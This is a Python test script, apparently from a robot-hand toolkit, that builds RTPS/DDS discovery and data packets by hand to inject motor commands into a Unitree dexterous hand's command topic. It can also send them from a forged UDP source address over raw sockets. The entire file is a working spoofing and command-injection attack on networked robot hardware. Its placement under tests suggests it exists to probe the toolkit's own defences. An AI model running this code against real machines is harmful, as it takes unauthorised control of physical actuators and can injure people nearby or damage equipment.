"""A attacker who commands a hand: RTPS packets by hand, knowing no more than the domain.

Nothing is received, so nothing has to be let through to it. Its participant claims to be at
127.0.0.1, as a process of the machine would, and its writer is best effort. As a program:

    python -m tests.lan_attack --domain 104 --to 10.9.0.1 --to 10.9.0.1@127.0.0.1 --seconds 1

``ADDRESS@SENDER`` puts any sender's address into the packets; that needs root (in its namespace).
"""

from __future__ import annotations

import argparse
import contextlib
import os
import socket
import struct
import time
from collections.abc import Sequence
from itertools import count

from dexkit.doctor import rtps
from dexkit.messages import message_type
from dexkit.messages.unitree_go import MotorCmd_, MotorCmds_

__all__ = ["Attacker"]

_INDICES = 4  # participants of the machine that are tried
_WRITER = bytes.fromhex("00000103")  # a writer without a key


def _parameter(pid: int, value: bytes) -> bytes:
    value += bytes(-len(value) % 4)
    return struct.pack("<HH", pid, len(value)) + value


def _string(text: str) -> bytes:
    return struct.pack("<I", len(text) + 1) + text.encode() + b"\0"


def _locator(address: str, port: int) -> bytes:
    return struct.pack("<iI", 1, port) + bytes(12) + socket.inet_aton(address)


class Attacker:
    """Packets of one participant with a writer for each topic.

    :param q: where each command wants the hand.
    """

    def __init__(self, topics: Sequence[str] = ("rt/dex1/left/cmd",), q: float = 5.0) -> None:
        self.prefix = b"\x01\x10" + os.urandom(10)
        self.topics = topics
        kind = message_type("unitree_go::msg::dds_::MotorCmds_")
        self.type_name = kind.name
        self.command = kind.encode(MotorCmds_([MotorCmd_(mode=1, q=q, kp=5.0, kd=0.05)]))

    def participant(self, number: int) -> bytes:
        """SPDP: a participant on this machine that announces and detects endpoints."""
        body = b"\0\x03\0\0" + b"".join(
            (
                _parameter(0x15, b"\2\1"),  # protocol version
                _parameter(0x16, b"\x01\x10"),  # vendor
                _parameter(0x50, self.prefix + bytes.fromhex("000001c1")),
                _parameter(0x58, struct.pack("<I", 0x3F)),  # built-in endpoints
                _parameter(0x02, struct.pack("<iI", 1000, 0)),  # lease, seconds
                _parameter(0x31, _locator("127.0.0.1", 7999)),
                _parameter(0x32, _locator("127.0.0.1", 7998)),
                _parameter(0x01, b""),
            )
        )
        return rtps.message(self.prefix, rtps.build_data(rtps.SPDP_WRITER, number, body))

    def writers(self, number: int) -> bytes:
        """SEDP: heartbeat and announcement of a best-effort writer for each topic."""
        parts = [rtps.build_heartbeat(rtps.SEDP_PUBLICATIONS, 1, len(self.topics), number)]
        for index, topic in enumerate(self.topics):
            guid = self.prefix + self._writer(index)
            body = b"\0\x03\0\0" + b"".join(
                (
                    _parameter(0x05, _string(topic)),
                    _parameter(0x07, _string(self.type_name)),
                    _parameter(0x1A, struct.pack("<IiI", 1, 0, 0)),  # best effort
                    _parameter(0x50, self.prefix + bytes.fromhex("000001c1")),
                    _parameter(0x5A, guid),
                    _parameter(0x01, b""),
                )
            )
            parts.append(rtps.build_data(rtps.SEDP_PUBLICATIONS, index + 1, body))
        return rtps.message(self.prefix, *parts)

    def commands(self, number: int) -> bytes:
        """One command on each topic."""
        parts = []
        for index in range(len(self.topics)):
            head = struct.pack("<HH", 0, 16) + bytes(4) + self._writer(index)
            body = head + struct.pack("<iI", 0, number) + self.command
            body += bytes(-len(body) % 4)
            parts.append(struct.pack("<BBH", 0x15, 0x05, len(body)) + body)
        return rtps.message(self.prefix, *parts)

    @staticmethod
    def _writer(index: int) -> bytes:
        return (int.from_bytes(_WRITER, "big") + (index << 8)).to_bytes(4, "big")

    def round(self, number: int) -> list[tuple[bytes, int]]:
        """What is sent in one round: packet, and its port on domain 0."""
        participant, writers = self.participant(number), self.writers(number)
        commands = self.commands(number)
        multicast = rtps.spdp_multicast_port(0)
        found = [(participant, multicast), (commands, multicast + 1)]
        for index in range(_INDICES):
            discovery = rtps.unicast_port(0, index)
            found += [(participant, discovery), (writers, discovery), (commands, discovery + 1)]
        return found


class _Plain:
    def __init__(self) -> None:
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)

    def send(self, packet: bytes, address: str, port: int) -> None:
        self.socket.sendto(packet, (address, port))


class _Forged:
    """UDP with the sender's address made up."""

    def __init__(self, source: str) -> None:
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.source = socket.inet_aton(source)

    def send(self, packet: bytes, address: str, port: int) -> None:
        udp = struct.pack(">HHHH", 7411, port, 8 + len(packet), 0)  # 0: no checksum
        head = struct.pack(">BBHHHBBH", 0x45, 0, 28 + len(packet), 0, 0, 64, 17, 0)
        head += self.source + socket.inet_aton(address)
        self.socket.sendto(head + udp + packet, (address, 0))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--domain", type=int, action="append", default=[])
    parser.add_argument("--to", action="append", required=True, metavar="ADDRESS[@SENDER]")
    parser.add_argument("--topic", action="append")
    parser.add_argument("--seconds", type=float, default=1.0)
    parser.add_argument("--pause", type=float, default=0.02)
    parser.add_argument("--port", type=int, action="append", default=[], help="all of it here, too")
    options = parser.parse_args()
    attacker = Attacker(options.topic or ("rt/dex1/left/cmd",))
    ways: list[tuple[_Plain | _Forged, str]] = []
    for way in options.to:
        address, _, sender = way.partition("@")
        ways.append((_Forged(sender) if sender else _Plain(), address))
    end = time.monotonic() + options.seconds
    print("attacking", flush=True)
    sent = 0
    for number in count(1):
        packets = attacker.round(number)
        for packet in dict.fromkeys(packet for packet, _ in packets):
            for port in options.port:
                for out, address in ways:
                    with contextlib.suppress(OSError):
                        out.send(packet, address, port)
                        sent += 1
        for packet, port in packets:
            for domain in options.domain:
                for out, address in ways:
                    with contextlib.suppress(OSError):  # unreachable: so be it
                        out.send(packet, address, port + 250 * domain)
                        sent += 1
        if time.monotonic() >= end:
            break
        time.sleep(options.pause)
    print(f"sent {sent}")


if __name__ == "__main__":
    main()
